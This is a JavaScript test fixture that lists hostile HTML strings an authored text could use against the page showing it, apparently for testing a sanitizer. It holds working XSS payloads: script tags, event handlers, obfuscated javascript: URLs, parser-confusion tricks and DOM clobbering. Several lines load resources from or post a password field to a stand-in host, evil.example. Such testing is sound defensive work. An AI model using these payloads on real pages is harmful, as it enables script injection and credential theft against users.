/**
 * Everything an authored text could try against the page it is shown in (product.md 5.6): each line by itself, in HTML and in
 * Markdown, which takes HTML too. `owned` on the document is the sign that something ran.
 */
const own = "document.documentElement.dataset.owned='yes'";

export const HOSTILE_TEXT = [
  '<p>Harmless to begin with</p>',
  '</p></div></div></section></article></main></body></html><p>Still inside</p><table><tr><td></div></table></td>',
  `<script>${own}</script><scr<script>ipt>${own}</scr</script>ipt><SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror="${own}"><img src="https://evil.example/pixel.gif"><picture><source srcset=x></picture>`,
  `<svg onload="${own}"><script>${own}</script><use href="data:image/svg+xml,x#y"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${own}"></style></mglyph></table></mtext></math>`,
  `<p onclick="${own}" onpointerover="${own}" onfocus="${own}" tabindex=0 autofocus>touched</p>`,
  '<a href="javascript:alert(1)">plain</a> <a href="JaVaScRiPt:alert(1)">mixed</a> <a href="java&#x09;script:alert(1)">tabbed</a>',
  '<a href=" &#14; javascript:alert(1)">led in</a> <a href="&#106;avascript:alert(1)">coded</a> <a href="vbscript:x">old</a>',
  '<a href="data:text/html,<script>alert(1)</script>">data</a> <a href="blob:x">blob</a> <a href="//evil.example/">bare</a>',
  `<iframe srcdoc="<script>parent.${own}</script>"></iframe><object data="x"></object><embed src="x"><portal src="x"></portal>`,
  '<div style="position:fixed;inset:0;z-index:9999;background:url(https://evil.example/bg)" class="overlay">Overlay</div>',
  '<style>body{display:none}@import "https://evil.example/x.css"</style><link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><title>taken</title>',
  '<form action="https://evil.example/"><input name="password" type="password"><button formaction="https://evil.example/">Send</button></form>',
  `<p id="app">clobbers</p><a name="body" id="documentElement">names</a><p id="${'i'.repeat(20_000)}">long id</p>`,
  '<button popovertarget="guide-contents">popover</button><dialog open>Dialog</dialog><details ontoggle="x" open><summary>d</summary></details>',
  '<template><script>x</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  `<textarea></textarea><img src=x onerror="${own}"></textarea><!--><img src=x onerror="${own}">--><![CDATA[<img src=x>]]>`,
].join('\n');
